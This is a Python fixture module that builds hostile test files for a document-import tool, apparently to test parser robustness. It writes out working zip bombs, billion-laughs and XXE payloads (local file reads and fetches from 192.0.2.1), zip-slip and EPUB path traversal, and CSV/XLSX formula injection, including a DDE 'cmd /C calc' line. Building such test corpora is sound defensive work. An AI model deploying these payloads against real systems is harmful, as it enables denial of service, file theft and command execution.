"""Files made to do harm, by name: bombs, traps, lies and rubbish in every format that comes in."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

SECRET = "what stands in a file that nobody chose"
ENTITIES = "".join(
    f'<!ENTITY e{n} "{"&e" + str(n - 1) + ";" if n else "lol"}{f"&e{n - 1};" * 9 if n else ""}">' for n in range(12)
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
EPUB = (
    '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile '
    'full-path="{opf}" media-type="application/oebps-package+xml"/></rootfiles></container>'
)


def archive(members: dict[str, bytes | str]) -> bytes:
    """A zip file."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in members.items():
            file.writestr(name, data)
    return held.getvalue()


def word(body: str, prolog: str = "", **more: bytes | str) -> bytes:
    """A DOCX of this body."""
    document = f'<?xml version="1.0"?>{prolog}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return archive({"[Content_Types].xml": TYPES, "_rels/.rels": RELS, "word/document.xml": document, **more})


def paragraph(text: str) -> str:
    """A paragraph of a DOCX."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def external(secret: Path) -> str:
    """A prolog whose entity is a file of this machine."""
    return f'<!DOCTYPE x [<!ENTITY f SYSTEM "{secret.as_uri()}">]>'


def outside(name: str = "http://192.0.2.1/x") -> str:
    """A prolog that wants to be completed from the network."""
    return f'<!DOCTYPE x SYSTEM "{name}.dtd" [<!ENTITY f SYSTEM "{name}">]>'


def laughs() -> str:
    """A prolog whose entity is a billion laughs long."""
    return f"<!DOCTYPE x [{ENTITIES}]>"


def tmx(prolog: str, text: str) -> str:
    """A TMX of one unit."""
    return (
        f'<?xml version="1.0"?>{prolog}<tmx version="1.4"><header srclang="zh" segtype="sentence" datatype="x" '
        'adminlang="en" creationtool="x" creationtoolversion="1" o-tmf="x"/><body><tu><tuv xml:lang="zh">'
        f"<seg>{text}</seg></tuv>"
        '<tuv xml:lang="en"><seg>one</seg></tuv></tu></body></tmx>'
    )


def xliff(prolog: str, text: str) -> str:
    """An XLIFF of one unit."""
    return (
        f'<?xml version="1.0"?>{prolog}<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file '
        'original="x" source-language="zh" target-language="en" datatype="x"><body><trans-unit id="1"><source>'
        f"{text}</source><target>one</target></trans-unit></body></file></xliff>"
    )


def png_that_lies() -> bytes:
    """A picture that says it is a text, of a size that nobody has."""
    head = struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))


def pdf_that_turns_in_circles() -> bytes:
    """A PDF whose pages are their own parents."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999"
        b"/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R/Size 3/Prev 0>>\nstartxref\n0\n%%EOF"
    )


def sheet(cell: str, dimension: str = "A1:B2") -> bytes:
    """An XLSX whose only sheet has this first cell."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    return archive(
        {
            "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="a" Type='
            f'"{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="s" sheetId="1" '
            'r:id="b"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="b" Type='
            f'"{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><dimension ref="{dimension}"/><sheetData>'
            f'<row r="1">{cell}<c r="B1" t="inlineStr"><is><t>one</t></is></c></row></sheetData></worksheet>',
        }
    )


Make = Callable[[Path], bytes | str]

FILES: dict[str, Make] = {
    # Bombs
    "bomb of zeros.docx": lambda _: word(paragraph("x"), **{"word/media/zero": bytes(300_000_000)}),
    "bomb in the body.docx": lambda _: word(paragraph(" " * 200_000_000)),
    "many members.docx": lambda _: archive({f"{n}.xml": "" for n in range(30_000)}),
    "a zip in a zip.docx": lambda _: archive({"word/document.xml": archive({"x": bytes(10_000_000)})}),
    "laughs.docx": lambda _: word(paragraph("&e11;"), laughs()),
    "laughs.tmx": lambda _: tmx(laughs(), "&e11;"),
    "laughs.xliff": lambda _: xliff(laughs(), "&e11;"),
    "laughs.odt": lambda _: archive(
        {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": f"{laughs()}<x>&e11;</x>"}
    ),
    "laughs.html": lambda _: f"{laughs()}<html><body><p>&e11;</p></body></html>",
    "a sheet without end.xlsx": lambda _: sheet(
        '<c r="XFD1048576" t="inlineStr"><is><t>甲</t></is></c>', "A1:XFD1048576"
    ),
    # Files of the machine, and the network
    "foreign file.docx": lambda secret: word(paragraph("&f;"), external(secret)),
    "foreign file.tmx": lambda secret: tmx(external(secret), "&f;"),
    "foreign file.xliff": lambda secret: xliff(external(secret), "&f;"),
    "foreign file.html": lambda secret: (
        f'<html><body><p>text</p><iframe src="{secret.as_uri()}"></iframe></body></html>'
    ),
    "foreign file.epub": lambda secret: archive(
        {"mimetype": "application/epub+zip", "META-INF/container.xml": EPUB.format(opf=f"../../../../{secret}")}
    ),
    "from the network.docx": lambda _: word(paragraph("&f;"), outside()),
    "from the network.tmx": lambda _: tmx(outside(), "&f;"),
    "from the network.html": lambda _: '<link rel=stylesheet href="http://192.0.2.1/"><p>text<img src="//192.0.2.1/x">',
    "out of the folder.docx": lambda _: word(paragraph("x"), **{"../../../../tmp/duizhao-was-here": SECRET}),
    "a link.txt": lambda secret: str(secret),
    # Depth
    "deep.html": lambda _: "<div>" * 100_000 + "text",
    "deep.tmx": lambda _: tmx("", "<hi>" * 50_000 + "x" + "</hi>" * 50_000),
    "deep.docx": lambda _: word("<w:tbl><w:tr><w:tc>" * 3_000 + paragraph("x") + "</w:tc></w:tr></w:tbl>" * 3_000),
    "deep.rtf": lambda _: "{\\rtf1 " + "{" * 200_000 + "text" + "}" * 200_000 + "}",
    "brackets.txt": lambda _: "（" * 200_000,
    "numbers.txt": lambda _: "\n".join("1." * 60 + f"{n} text" for n in range(500)),
    "one line.txt": lambda _: "缔约双方" * 300_000,
    # Lies
    "a picture.txt": lambda _: png_that_lies(),
    "a picture.docx": lambda _: png_that_lies(),
    "a zip.txt": lambda _: archive({"x": "y"}),
    "circles.pdf": lambda _: pdf_that_turns_in_circles(),
    "half a file.pdf": lambda _: b"%PDF-1.7\n" + random.Random(1).randbytes(5_000),
    "half a file.docx": lambda _: word(paragraph("甲" * 5_000))[:900],
    "half a file.epub": lambda _: archive({"mimetype": "application/epub+zip"})[:60],
    "rubbish.odt": lambda _: random.Random(2).randbytes(20_000),
    "rubbish.xlsx": lambda _: b"PK\x03\x04" + random.Random(3).randbytes(20_000),
    "rubbish.rtf": lambda _: b"{\\rtf1\\ansi\\bin99999999 " + random.Random(4).randbytes(5_000),
    "rubbish.txt": lambda _: random.Random(5).randbytes(20_000),
    "nothing.txt": lambda _: b"",
    "nothing.docx": lambda _: b"",
    "only a mark.txt": lambda _: b"\xff\xfe",
    "zeros.txt": lambda _: bytes(100_000),
    "half a character.json": lambda _: '{"text": "\\ud800"}',
    "controls.txt": lambda _: "".join(map(chr, range(1, 32))) * 500,
    "turned round.txt": lambda _: "第一条　\u202e\u2066缔约双方\u202c应当交换数据。",
    # Formulas
    "formula.csv": lambda _: "zh,en\n=HYPERLINK(\"http://192.0.2.1\"),=cmd|' /C calc'!A0\n",
    "formula.xlsx": lambda _: sheet('<c r="A1"><f>WEBSERVICE("http://192.0.2.1")</f><v>甲</v></c>'),
    "a wide table.csv": lambda _: "甲," * 100_000,
    "quotes.csv": lambda _: '"' * 100_001,
}
